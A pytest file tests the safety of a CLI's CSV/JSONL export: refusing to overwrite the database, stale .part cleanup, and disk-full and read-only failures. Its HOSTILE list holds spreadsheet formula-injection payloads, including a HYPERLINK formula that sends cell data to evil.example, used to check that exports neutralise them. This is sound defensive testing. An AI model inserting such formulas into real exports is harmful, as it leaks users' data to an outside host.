"""`export -o` never writes over the database, leaves no half file and no stale .part, and fails in one line.

CSV cells that a spreadsheet would run as a formula are neutralised. Disk-full
and read-only cases run on a real small tmpfs (skipped with the reason where
mounting is not allowed).
"""

from __future__ import annotations

import csv
import fcntl
import io
import os
import sqlite3
import subprocess
import sys

import pytest
from readdb import reading_db  # noqa: F401  (fixture)
from smallfs import fill, mounted_tmpfs

from conftest import ROOT
from pipeline.output.formats import write_csv

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def test_csv_cells_that_would_run_as_formulas_get_a_leading_quote():
    out = io.StringIO()
    papers = [{"id": f"p{i}", "title": title, "authors": [title, "Ann"], "upvotes": -3, "abstract": "plain = fine"}
              for i, title in enumerate(HOSTILE)]
    write_csv(papers, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["title"] for row in rows] == ["'" + title.replace("\r", "\n") for title in HOSTILE]
    assert rows[0]["authors"] == "'" + HOSTILE[0] + "; Ann"
    assert rows[0]["upvotes"] == "-3" and rows[0]["abstract"] == "plain = fine"


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm"])
def test_export_onto_the_database_or_its_files_is_refused(run_cli, reading_db, suffix):
    target = reading_db.with_name(reading_db.name + suffix)
    result = run_cli("export", "-o", str(target))
    assert result.exit_code == 2
    assert result.output.startswith(f"paperfeed: -o {target}: that is the database")
    with sqlite3.connect(reading_db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_export_through_a_symlink_to_the_database_is_refused(run_cli, reading_db, tmp_path):
    link = tmp_path / "papers.csv"
    link.symlink_to(reading_db)
    assert run_cli("export", "-o", str(link)).exit_code == 2


def test_the_output_file_gets_the_umasks_mode(run_cli, reading_db, tmp_path):
    old = os.umask(0o022)
    try:
        assert run_cli("export", "-o", str(tmp_path / "out.csv")).exit_code == 0
    finally:
        os.umask(old)
    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o644


def test_a_killed_exports_part_file_is_removed_by_the_next_export(run_cli, reading_db, tmp_path):
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead_pid = int(gone.stdout)
    stale = tmp_path / f".out.csv.{dead_pid}-0badc0de.part"
    stale.write_text("half an export")
    live = tmp_path / f".out.csv.{os.getpid()}-1234abcd.part"  # a running export's: left alone
    live.write_text("in progress")
    assert run_cli("export", "-o", str(tmp_path / "out.csv")).exit_code == 0
    assert not stale.exists() and live.exists()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".part")) == [live.name]


def test_export_into_a_read_only_folder_is_one_line(run_cli, reading_db, tmp_path):
    with mounted_tmpfs(tmp_path / "ro", "64k", read_only=True) as folder:
        result = run_cli("export", "-o", str(folder / "out.csv"))
        assert result.exit_code == 1
        assert result.output == (f"paperfeed: -o {folder / 'out.csv'}: cannot write in {folder}:"
                                 " Read-only file system\n")


def test_a_full_disk_during_export_keeps_the_old_file_and_leaves_no_part(run_cli, reading_db, tmp_path):
    with mounted_tmpfs(tmp_path / "small", "64k") as folder:
        (folder / "out.csv").write_text("yesterday's export\n")
        fill(folder)
        result = run_cli("export", "-o", str(folder / "out.csv"))
        assert result.exit_code == 1
        assert result.output == (f"paperfeed: -o {folder / 'out.csv'}: writing failed: No space left on device;"
                                 f" {folder / 'out.csv'} left as it was\n")
        assert (folder / "out.csv").read_text() == "yesterday's export\n"
        assert not [p for p in folder.iterdir() if p.name.endswith(".part")]


def test_export_into_head_exits_quietly(reading_db, config_dir, tmp_path):
    read_end, write_end = os.pipe()
    fcntl.fcntl(write_end, fcntl.F_SETPIPE_SZ, 4096)  # smaller than the export, so the writer meets the closed end
    process = subprocess.Popen([sys.executable, "-m", "pipeline", "--db", str(reading_db), "--config",
                                str(config_dir), "export", "--format", "jsonl"], cwd=ROOT,
                               stdout=write_end, stderr=subprocess.PIPE)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as reader:
        first = reader.readline()  # what `| head -1` does before it exits
    stderr = process.stderr.read().decode()
    assert process.wait(timeout=60) == 141
    assert first.startswith(b"{") and stderr == ""
